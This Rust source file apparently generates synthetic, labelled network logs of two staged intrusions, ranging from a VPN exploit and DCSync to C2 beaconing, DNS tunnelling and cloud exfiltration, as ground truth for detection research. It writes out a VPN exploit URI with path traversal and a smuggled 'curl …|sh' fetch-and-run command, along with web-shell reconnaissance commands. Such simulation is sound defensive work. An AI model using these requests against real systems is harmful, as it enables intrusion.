//! The intrusions: each a sequence of stages with parameters (start, hosts, periods,
//! jitter, volumes), written as labelled sessions, with the ground truth they make.
//!
//! * **smash-and-grab** — the VPN appliance is exploited over its web interface, pulls
//!   tools from a staging server, sweeps the servers' subnet for SMB, RDP, WinRM and SSH,
//!   replicates the directory from the DC (DCSync),
//!   installs a service on the DC and the file server over SMB, the file server beacons
//!   every minute to a C2 domain, and ~4 GB leave for cloud storage ~41 h after access.
//! * **low-and-slow** — the web server is exploited from a residential-looking relay
//!   (an ORB), the intruder RDPs from it to a workstation, installs an unapproved RMM
//!   tool, beacons every ~4 h with ±30 % jitter and skipped cycles, tunnels through the
//!   corporate resolvers with TXT queries of encoded subdomains, holds direct-to-IP TLS
//!   sessions with the relay, and lets ~50 MB a day leave in small uploads for weeks.

use dwell_model::{Stage, TempoModel};

use crate::benign::{eport, HOUR, US};
use crate::rng::{key, mix, Rng};
use crate::session::{App, DceRpc, Dns, Http, Session, Smb, State, Tls};
use crate::world::{ip_str, public_ip, Kind, Role, World};

/// One stage of a scenario as written into the data.
#[derive(Clone, Debug)]
pub struct StagePlan {
    /// Short name.
    pub name: &'static str,
    /// Life-cycle stage.
    pub stage: Stage,
    /// ATT&CK technique ids.
    pub attack: &'static [&'static str],
    /// What happens.
    pub description: String,
}

/// A scenario: its stages and the sessions that carry them.
#[derive(Clone, Debug)]
pub struct Plan {
    /// `smash_and_grab` or `low_and_slow`.
    pub name: &'static str,
    /// The operating model it exemplifies.
    pub model: TempoModel,
    /// Stages, in order; session labels index into this.
    pub stages: Vec<StagePlan>,
    /// The sessions, labelled (scenario index, stage index).
    pub sessions: Vec<Session>,
}

const C2_JA3: &str = "72a589da586844d7f0818ce684948eea"; // a Go TLS client, made up for the sim
const C2_JA4: &str = "t13d190900_9dc949149365_97f8aa674fd9";

fn stage(
    name: &'static str,
    stage: Stage,
    attack: &'static [&'static str],
    description: String,
) -> StagePlan {
    StagePlan { name, stage, attack, description }
}

/// Puts an HTTP request (status 200; body sizes from the session's payload) on `s`.
fn http(s: Session, method: &'static str, host: &str, uri: &str, ua: &str) -> Session {
    let mut s = s;
    s.service = Some("http");
    let resp = s.resp_bytes.saturating_sub(300);
    s.app = App::Http(Http {
        method,
        host: host.to_string(),
        uri: uri.to_string(),
        ua: ua.to_string(),
        status: 200,
        req_len: if method == "POST" { s.orig_bytes.saturating_sub(400) } else { 0 },
        resp_len: resp,
        mime: if resp > 100_000 { "application/octet-stream" } else { "text/html" },
    });
    s
}

fn tls(
    s: Session,
    sni: Option<&str>,
    cert: Option<usize>,
    ja3: &'static str,
    ja4: &'static str,
) -> Session {
    let mut s = s;
    s.service = Some("ssl");
    s.app = App::Tls(Tls {
        sni: sni.map(str::to_string),
        version: "TLSv12",
        cipher: "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256",
        ja3,
        ja4,
        ja3s: "ec74a5c51106f0419184d0dd08fb05bc",
        cert,
    });
    s
}

fn dns(
    w: &World,
    t: i64,
    host: usize,
    name: &str,
    qtype: u16,
    answers: Vec<String>,
    r: &mut Rng,
) -> Session {
    let dc = w.hosts[w.resolver_of(host)].ip;
    let mut s = Session::udp(t, w.hosts[host].ip, eport(r), dc, 53).sized(0, 0, 0.01 + r.exp(0.03));
    s.service = Some("dns");
    s.app = App::Dns(Dns {
        query: name.to_string(),
        qtype,
        rcode: 0,
        answers: answers.into(),
        ttl: if qtype == 16 { 0 } else { 60 },
    });
    s
}

/// Labels every session with (scenario, stage).
fn label(v: &mut [Session], scenario: u8, stage: u8) {
    for s in v {
        s.label = Some((scenario, stage));
    }
}

/// The smash-and-grab scenario starting at `t0` (µs), ending by `end` (µs).
pub fn smash_and_grab(w: &mut World, idx: u8, t0: i64, end: i64) -> Plan {
    let mut r = Rng::new(&[w.seed, key("smash")]);
    let vpn = w.by_role(Role::Vpn);
    let dc = w.dcs[0];
    let fs = w.by_role(Role::FileServer);
    let (vpn_ip, dc_ip, fs_ip) = (w.hosts[vpn].ip, w.hosts[dc].ip, w.hosts[fs].ip);
    let attacker = public_ip(&[w.seed, key("sg-attacker")]);
    let staging = public_ip(&[w.seed, key("sg-staging")]);
    let c2_name = "cdn-update-check.net".to_string();
    let c2 = w.add_domain(format!("api.{c2_name}"), Kind::Web, 1);
    let c2_cert = w.add_cert(&c2_name, Some(true));
    let c2_ip = w.domains[c2].ips[0];
    let mega = "gfs270n122.userstorage.mega.co.nz".to_string();
    let mega_d = w.add_domain(mega.clone(), Kind::Web, 1);
    let mega_ip = w.domains[mega_d].ips[0];
    let mega_cert = w.domains[mega_d].cert;

    let mut stages = Vec::new();
    let mut sessions = Vec::new();
    // 0. Exploit of the VPN appliance's web interface.
    let mut v = Vec::new();
    let mut t = t0;
    for (i, uri) in [
        "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection",
        "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20-s%20http%3A%2F%2Fstaging%2Fa.sh%7Csh%3B",
        "/dana-na/auth/url_default/welcome.cgi",
        "/api/v1/configuration/users/user-roles/user-role/rest-userrole1/web/web-bookmarks/bookmark",
    ]
    .iter()
    .cycle()
    .take(12)
    .enumerate()
    {
        t += (5.0 + r.exp(12.0)) as i64 * US;
        let s = Session::tcp(t, attacker, eport(&mut r), vpn_ip, 8443).sized(600 + i as u64 * 13, 900 + r.below(3000), 0.3);
        v.push(http(s, if i % 2 == 0 { "POST" } else { "GET" }, &ip_str(vpn_ip), uri, "python-requests/2.31.0"));
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage("exploit_vpn", Stage::InitialAccess, &["T1190"], format!("{} exploits the VPN appliance {} over its web interface (path traversal and command injection)", ip_str(attacker), ip_str(vpn_ip))));
    // 1. Tools pulled from a staging server.
    let mut v = Vec::new();
    t += 9 * 60 * US;
    for (uri, size) in
        [("/a.sh", 2_400u64), ("/agent-linux-amd64", 6_800_000), ("/socks", 3_100_000)]
    {
        t += (20.0 + r.exp(30.0)) as i64 * US;
        let s = Session::tcp(t, vpn_ip, eport(&mut r), staging, 80).sized(
            180,
            size + 300,
            1.0 + size as f64 / 4_000_000.0,
        );
        v.push(http(s, "GET", &ip_str(staging), uri, "Wget/1.21.3"));
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "tool_download",
        Stage::Execution,
        &["T1105"],
        format!("the appliance downloads tools from {} over HTTP", ip_str(staging)),
    ));
    // 2. A half-open sweep of the servers' subnet from the appliance for SMB, RDP, WinRM
    //    and SSH (the fscan / masscan step): live hosts answer, open ports reset.
    let mut v = Vec::new();
    t += 6 * 60 * US;
    let net = dc_ip & 0xffff_ff00;
    let live: Vec<(u32, Role)> = w.hosts.iter().map(|h| (h.ip, h.role)).collect();
    for port in [445u16, 3389, 5985, 22] {
        for a in 1..255u32 {
            let ip = net | a;
            if ip == vpn_ip {
                continue;
            }
            t += (2_000.0 + r.exp(8_000.0)) as i64;
            let mut s = Session::tcp(t, vpn_ip, eport(&mut r), ip, port).sized(0, 0, 0.0);
            s.state = match live.iter().find(|(h, _)| *h == ip) {
                None => State::S0,
                Some((_, role)) => {
                    let open = match port {
                        445 | 5985 => true,
                        3389 => *role != Role::Dc || r.chance(0.5),
                        _ => r.chance(0.2),
                    };
                    if open {
                        State::Rsto
                    } else {
                        State::Rej
                    }
                }
            };
            v.push(s);
        }
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "internal_scan",
        Stage::Discovery,
        &["T1046"],
        format!(
            "{} sweeps {}/24 for SMB, RDP, WinRM and SSH with half-open probes",
            ip_str(vpn_ip),
            ip_str(net)
        ),
    ));
    // 3. DCSync from the appliance: directory replication requested by a non-DC.
    let mut v = Vec::new();
    t += 14 * 60 * US;
    for op in [
        "DRSBind",
        "DRSCrackNames",
        "DRSGetNCChanges",
        "DRSGetNCChanges",
        "DRSGetNCChanges",
        "DRSUnbind",
    ] {
        t += (1.0 + r.exp(2.0)) as i64 * US;
        let mut s = Session::tcp(t, vpn_ip, eport(&mut r), dc_ip, 49667).sized(
            2_000 + r.below(4000),
            40_000 + r.below(800_000),
            0.8,
        );
        s.service = Some("dce_rpc");
        s.app = App::DceRpc(DceRpc { endpoint: "drsuapi", operation: op, pipe: "49667" });
        v.push(s);
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "dcsync",
        Stage::CredentialAccess,
        &["T1003.006"],
        format!(
            "{} requests directory replication (DRSGetNCChanges) from {}",
            ip_str(vpn_ip),
            ip_str(dc_ip)
        ),
    ));
    // 4. Lateral movement: a service installed over SMB on the DC and the file server.
    let mut v = Vec::new();
    t += 3 * 60 * US;
    for (target, name) in [(dc_ip, "DC01"), (fs_ip, "FS01")] {
        t += (10.0 + r.exp(20.0)) as i64 * US;
        let mut m = Session::tcp(t, vpn_ip, eport(&mut r), target, 445).sized(350_000, 9_000, 3.0);
        m.service = Some("smb,krb,gssapi");
        m.app = App::Smb(Smb {
            path: format!("\\\\{name}\\ADMIN$"),
            share_type: "DISK",
            file: Some(("SMB::FILE_WRITE", "svchost-upd.exe".into(), 341_504)),
        });
        v.push(m);
        for op in ["OpenSCManagerW", "CreateServiceW", "StartServiceW"] {
            t += US;
            let mut s = Session::tcp(t, vpn_ip, eport(&mut r), target, 445).sized(800, 400, 0.2);
            s.service = Some("smb,dce_rpc");
            s.app =
                App::DceRpc(DceRpc { endpoint: "svcctl", operation: op, pipe: "\\pipe\\svcctl" });
            v.push(s);
        }
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "lateral_smb_service",
        Stage::LateralMovement,
        &["T1021.002", "T1569.002"],
        format!(
            "{} writes a binary to ADMIN$ and starts it as a service on {} and {}",
            ip_str(vpn_ip),
            ip_str(dc_ip),
            ip_str(fs_ip)
        ),
    ));
    // 5. The file server beacons every 60 s (±20 %) to the C2 domain for ~40 h.
    let mut v = Vec::new();
    let beacon_start = t + 10 * 60 * US;
    let mut bt = beacon_start;
    let beacon_end = (t0 + 44 * HOUR * US).min(end);
    let mut last_lookup: Option<i64> = None;
    while bt < beacon_end {
        if last_lookup.is_none_or(|l| bt - l > HOUR * US) {
            v.push(dns(
                w,
                bt - 50_000,
                fs,
                &format!("api.{c2_name}"),
                1,
                vec![ip_str(c2_ip)],
                &mut r,
            ));
            last_lookup = Some(bt);
        }
        let s = Session::tcp(bt, fs_ip, eport(&mut r), c2_ip, 443).sized(
            300 + r.below(120),
            180 + r.below(90),
            0.3 + r.exp(0.2),
        );
        v.push(tls(s, Some(&format!("api.{c2_name}")), Some(c2_cert), C2_JA3, C2_JA4));
        bt += ((60.0 * (1.0 + r.range(-0.2, 0.2))) * US as f64) as i64;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "beacon",
        Stage::CommandAndControl,
        &["T1071.001", "T1573.002"],
        format!(
            "{} beacons every 60 s (±20 %) over TLS to api.{c2_name} (self-signed certificate)",
            ip_str(fs_ip)
        ),
    ));
    // 6. Bulk upload to cloud storage 41 h after access.
    let mut v = Vec::new();
    let mut et = t0 + 41 * HOUR * US;
    v.push(dns(w, et - US, fs, &mega, 1, vec![ip_str(mega_ip)], &mut r));
    for _ in 0..40 {
        let size = 95_000_000 + r.below(10_000_000);
        let s = Session::tcp(et, fs_ip, eport(&mut r), mega_ip, 443).sized(
            size,
            60_000,
            size as f64 / 12_000_000.0,
        );
        v.push(tls(s, Some(&mega), Some(mega_cert), C2_JA3, C2_JA4));
        et += ((size as f64 / 12_000_000.0 + 5.0 + r.exp(20.0)) * US as f64) as i64;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "exfil_cloud",
        Stage::Exfiltration,
        &["T1567.002"],
        format!("{} uploads ~4 GB to {mega} in 40 pieces over ~2 h", ip_str(fs_ip)),
    ));
    sessions.retain(|s| s.ts < end);
    Plan { name: "smash_and_grab", model: TempoModel::SmashAndGrab, stages, sessions }
}

/// The low-and-slow scenario starting at `t0` (µs), running until `end` (µs).
pub fn low_and_slow(w: &mut World, idx: u8, t0: i64, end: i64) -> Plan {
    let mut r = Rng::new(&[w.seed, key("slow")]);
    let web = w.by_role(Role::WebServer);
    let web_ip = w.hosts[web].ip;
    let ws = w.workstations[7 % w.workstations.len()];
    let ws_ip = w.hosts[ws].ip;
    let fs_ip = w.hosts[w.by_role(Role::FileServer)].ip;
    // A residential-looking relay (an ORB node): cable-provider space.
    let h = mix(&[w.seed, key("orb")]);
    let orb = (73u32 << 24)
        | ((h as u32 & 0xff) << 16)
        | (((h >> 8) as u32 & 0xff) << 8)
        | (1 + (h >> 16) as u32 % 250);
    let c2 = w.add_domain("img.static-cdn-cache.com".into(), Kind::Web, 1);
    let c2_ip = w.domains[c2].ips[0];
    let c2_cert = w.domains[c2].cert;
    let rmm = w.add_domain("relay-4a1f9c.net.anydesk.com".into(), Kind::Web, 1);
    let rmm_ip = w.domains[rmm].ips[0];
    let rmm_cert = w.domains[rmm].cert;
    let tunnel = "t.cloud-metrics-sync.com";
    let tunnel_ns = public_ip(&[w.seed, key("tunnel-ns")]);
    let drop = w.add_domain("content.dropboxapi.com".into(), Kind::Web, 2);
    let drop_ips = w.domains[drop].ips.clone();
    let drop_cert = w.domains[drop].cert;
    let day = 24 * HOUR * US;

    let mut stages = Vec::new();
    let mut sessions = Vec::new();
    // 0. A web shell placed on the public web server from the relay.
    let mut v = Vec::new();
    let mut t = t0;
    for (method, uri, req) in [
        ("GET", "/cms/admin/login.php", 0u64),
        ("POST", "/cms/admin/upload.php?type=image", 48_000),
        ("GET", "/cms/uploads/images/thumb.aspx?c=whoami", 0),
        ("GET", "/cms/uploads/images/thumb.aspx?c=ipconfig%20%2Fall", 0),
        (
            "GET",
            "/cms/uploads/images/thumb.aspx?c=net%20group%20%22domain%20admins%22%20%2Fdomain",
            0,
        ),
    ] {
        t += (30.0 + r.exp(60.0)) as i64 * US;
        let s = Session::tcp(t, orb, eport(&mut r), web_ip, 80).sized(
            400 + req,
            600 + r.below(3000),
            0.4,
        );
        v.push(http(
            s,
            method,
            "www.example-corp.com",
            uri,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        ));
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "webshell",
        Stage::InitialAccess,
        &["T1190", "T1505.003"],
        format!(
            "{} (residential relay) uploads and uses a web shell on {}",
            ip_str(orb),
            ip_str(web_ip)
        ),
    ));
    // 1. From the web server to a workstation over RDP (stolen credentials).
    let mut v = Vec::new();
    t += 20 * HOUR * US;
    for _ in 0..2 {
        let dur = 900.0 + r.exp(900.0);
        let mut s = Session::tcp(t, web_ip, eport(&mut r), ws_ip, 3389).sized(
            (dur * 300.0) as u64,
            (dur * 4000.0) as u64,
            dur,
        );
        s.service = Some("rdp");
        v.push(s);
        t += (dur as i64 + 3600) * US;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "lateral_rdp",
        Stage::LateralMovement,
        &["T1021.001"],
        format!("{} opens RDP sessions to workstation {}", ip_str(web_ip), ip_str(ws_ip)),
    ));
    let foothold = t;
    // 2. Unapproved RMM tool: daily relay sessions, SMB to the file server during them.
    let mut v = Vec::new();
    let mut d = foothold + 2 * HOUR * US;
    while d < end {
        let dur = 1800.0 + r.exp(2400.0);
        v.push(dns(w, d - US, ws, "relay-4a1f9c.net.anydesk.com", 1, vec![ip_str(rmm_ip)], &mut r));
        let s = Session::tcp(d, ws_ip, eport(&mut r), rmm_ip, 443).sized(
            (dur * 2000.0) as u64,
            (dur * 30_000.0) as u64,
            dur,
        );
        v.push(tls(
            s,
            Some("relay-4a1f9c.net.anydesk.com"),
            Some(rmm_cert),
            "ae3bbbb4c1d4ef2ea0f3ba2d0e2c6dd1",
            "t12d290800_0aa4f5cf3b07_96f9ae1ab8d9",
        ));
        let mut smb = Session::tcp(d + (dur as i64 / 3) * US, ws_ip, eport(&mut r), fs_ip, 445)
            .sized(40_000, 3_000_000 + r.below(30_000_000), 120.0);
        smb.service = Some("smb,krb,gssapi");
        smb.app =
            App::Smb(Smb { path: "\\\\FS01\\FINANCE".into(), share_type: "DISK", file: None });
        v.push(smb);
        d += day + ((r.range(-3.0, 3.0)) * 3600.0) as i64 * US;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage("unapproved_rmm", Stage::CommandAndControl, &["T1219"], format!("{} runs AnyDesk through relay-4a1f9c.net.anydesk.com daily and reaches the file server during the sessions", ip_str(ws_ip))));
    // 3. A 4-hourly HTTPS beacon with ±30 % jitter and skipped cycles.
    let mut v = Vec::new();
    let mut b = foothold + HOUR * US;
    while b < end {
        if !r.chance(0.1) {
            v.push(dns(
                w,
                b - 200_000,
                ws,
                "img.static-cdn-cache.com",
                1,
                vec![ip_str(c2_ip)],
                &mut r,
            ));
            let s = Session::tcp(b, ws_ip, eport(&mut r), c2_ip, 443).sized(
                900 + r.below(300),
                1200 + r.below(600),
                0.6 + r.exp(0.3),
            );
            v.push(tls(s, Some("img.static-cdn-cache.com"), Some(c2_cert), C2_JA3, C2_JA4));
        }
        b += ((4.0 * 3600.0 * (1.0 + r.range(-0.3, 0.3))) * US as f64) as i64;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "beacon_4h",
        Stage::CommandAndControl,
        &["T1071.001"],
        format!(
            "{} beacons to img.static-cdn-cache.com every ~4 h (±30 %, cycles skipped)",
            ip_str(ws_ip)
        ),
    ));
    // 4. DNS tunnelling through the corporate resolvers, working hours, ~30 queries/h.
    let mut v = Vec::new();
    let mut q = foothold + 3 * HOUR * US;
    let mut seq = 0u64;
    while q < end {
        if crate::benign::work_weight(q) > 0.5 {
            let label_a: String =
                (0..4).map(|_| format!("{:016x}", r.next_u64())).collect::<Vec<_>>().join("");
            let name = format!("{}.{seq:x}.{tunnel}", &label_a[..52]);
            let s = dns(
                w,
                q,
                ws,
                &name,
                16,
                vec![format!("\"{:016x}{:016x}\"", r.next_u64(), r.next_u64())],
                &mut r,
            );
            v.push(s);
            // The resolver forwards every one (unique names never hit the cache).
            let dc = w.hosts[w.resolver_of(ws)].ip;
            let mut f = Session::udp(q + 2000, dc, eport(&mut r), tunnel_ns, 53).sized(
                name.len() as u64 + 18,
                name.len() as u64 + 90,
                0.05,
            );
            f.service = Some("dns");
            f.app = App::Dns(Dns {
                query: name,
                qtype: 16,
                rcode: 0,
                answers: vec!["\"ok\"".to_string()].into(),
                ttl: 0,
            });
            v.push(f);
            seq += 1;
        }
        q += (r.exp(120.0) * US as f64) as i64 + US;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage("dns_tunnel", Stage::CommandAndControl, &["T1071.004", "T1572"], format!("{} tunnels through the corporate resolvers: TXT queries of encoded labels under {tunnel}", ip_str(ws_ip))));
    // 5. Direct-to-IP TLS sessions with the relay, no DNS, no SNI, every ~7 h.
    let mut v = Vec::new();
    let mut p = foothold + 5 * HOUR * US;
    while p < end {
        let dur = 1800.0 + r.exp(3600.0);
        let s = Session::tcp(p, ws_ip, eport(&mut r), orb, 443).sized(
            (dur * 500.0) as u64,
            (dur * 800.0) as u64,
            dur,
        );
        v.push(tls(s, None, None, C2_JA3, C2_JA4));
        p += ((7.0 * 3600.0 + r.range(-2.0, 2.0) * 3600.0) * US as f64) as i64;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "direct_to_ip_orb",
        Stage::CommandAndControl,
        &["T1090.002", "T1573.002"],
        format!(
            "{} holds TLS sessions straight to {} (no DNS lookup, no SNI)",
            ip_str(ws_ip),
            ip_str(orb)
        ),
    ));
    // 6. ~50 MB a day in ~2 MB uploads during working hours, from day two on.
    let mut v = Vec::new();
    let mut e = foothold + day;
    while e < end {
        let w8 = crate::benign::work_weight(e);
        if w8 > 0.5 && r.chance(0.5) {
            let size = 1_800_000 + r.below(600_000);
            let ip = drop_ips[r.below(drop_ips.len() as u64) as usize];
            if r.chance(0.4) {
                v.push(dns(w, e - 3000, ws, "content.dropboxapi.com", 1, vec![ip_str(ip)], &mut r));
            }
            let s = Session::tcp(e, ws_ip, eport(&mut r), ip, 443).sized(
                size,
                4_000,
                2.0 + size as f64 / 1_000_000.0,
            );
            v.push(tls(s, Some("content.dropboxapi.com"), Some(drop_cert), C2_JA3, C2_JA4));
        }
        e += (r.exp(900.0) * US as f64) as i64 + 60 * US;
    }
    label(&mut v, idx, stages.len() as u8);
    sessions.extend(v);
    stages.push(stage(
        "exfil_slow",
        Stage::Exfiltration,
        &["T1567.002", "T1030"],
        format!("{} uploads ~50 MB a day to content.dropboxapi.com in ~2 MB pieces", ip_str(ws_ip)),
    ));
    sessions.retain(|s| s.ts < end);
    Plan { name: "low_and_slow", model: TempoModel::LowAndSlow, stages, sessions }
}
